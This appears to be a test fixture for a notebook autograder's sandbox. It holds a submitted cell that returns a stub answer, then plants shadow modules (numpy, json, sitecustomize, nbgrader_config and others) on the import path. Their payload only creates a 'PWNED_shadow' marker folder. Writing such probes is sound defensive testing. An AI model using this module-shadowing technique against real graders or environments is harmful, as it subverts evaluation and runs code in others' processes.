"""Leaves modules named numpy, json, softcounts and sitecustomize in the scratch folder and at the front of the path."""

TRACE = "PWNED_shadow"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import os
import sys

mark = "PWN" + "ED_shadow"
code = f"import os\ntry:\n    os.mkdir('@COURSE@/{mark}')\nexcept OSError:\n    pass\n"
for folder in (".", "@COURSE@", "@CHECKOUT@", *sys.path):
    for name in ("numpy", "json", "softcounts", "sitecustomize", "usercustomize", "nbgrader_config", "autograder"):
        try:
            path = os.path.join(folder or ".", f"{name}.py")
            if not os.path.exists(path) and folder in (".", "@COURSE@"):
                with open(path, "w") as file:
                    file.write(code)
        except OSError:
            pass
sys.path.insert(0, os.getcwd())
for name in [name for name in sys.modules if name.startswith(("json", "softcounts", "base64"))]:
    del sys.modules[name]
""",
}


def tamper(notebook, folder):
    code = f"import pathlib\n(pathlib.Path({str(folder.parents[2])!r}) / ('PWN' + 'ED_shadow')).mkdir()\n"
    for name in ("numpy.py", "json.py", "sitecustomize.py", "nbgrader_config.py", "softcounts/__init__.py"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(code)
